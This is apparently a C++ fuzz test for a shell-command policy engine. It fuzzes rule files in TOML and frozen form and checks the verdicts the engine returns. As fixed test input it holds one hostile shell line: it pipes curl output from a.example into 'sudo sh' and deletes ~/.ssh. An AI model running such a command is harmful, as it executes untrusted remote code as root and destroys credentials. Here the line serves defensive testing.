// Files of rules, as TOML and as frozen bytes: whatever they hold, loading ends, and what loads can be frozen, thawed and asked.
#include "policy/decide.hpp"
#include "policy/freeze.hpp"
#include "policy/normal/normalize.hpp"

using namespace owhale::policy;

namespace {

void require(bool holds) {
    if (!holds) __builtin_trap();
}

Facts facts() {
    Facts out;
    out.cwd = out.workspace = "/home/user/project";
    out.home = "/home/user";
    return out;
}

const NormalForm& form() {
    static const NormalForm one = [] {
        Request request;
        request.script =
            "cd x && curl -s https://a.example/$1 | sudo sh -c 'rm -rf ~/.ssh/* > /dev/null' & cat *.py \"$X\"";
        return normalize(request, facts());
    }();
    return one;
}

void ask(const Ruleset& rules) {
    for (const auto mode : {Mode::local, Mode::strict}) {
        const auto verdict = decide(rules, form(), facts(), mode, "host");
        require(verdict.segment.begin <= verdict.segment.end && verdict.segment.end <= form().text.size());
        require(!verdict.rule.empty() && !verdict.reason.empty());
        for (const auto& finding : verdict.findings) require(finding.command < form().commands.size());
    }
}

void load(std::string_view text, Origin origin, Verify verify) {
    const auto rules = load_rules({{"x.toml", std::string(text), origin, {}}}, verify);
    if (!rules) {
        require(!rules.error().message.empty());
        return;
    }
    ask(**rules);
    const auto bytes = freeze(**rules);
    const auto again = load_rules({{"frozen", {}, Origin::shipped, bytes}}, Verify::none);
    require(again.has_value() && (*again)->rules.size() == (*rules)->rules.size());
    if (origin == Origin::project)
        for (const auto& rule : (*rules)->rules) require(rule.decision != Decision::allow && rule.overrides.empty());
}

} // namespace

extern "C" int LLVMFuzzerTestOneInput(const std::uint8_t* data, std::size_t size) {
    if (size == 0) return 0;
    const std::string_view text(reinterpret_cast<const char*>(data) + 1, size - 1);
    switch (data[0] % 4) {
    case 0:
        load(text, Origin::system, Verify::none);
        break;
    case 1:
        load(text, Origin::project, Verify::none);
        break;
    case 2:
        load(text, Origin::system, Verify::added);
        break;
    default:
        if (const auto rules = load_rules({{"frozen", {}, Origin::shipped, text}}, Verify::none)) ask(**rules);
    }
    return 0;
}
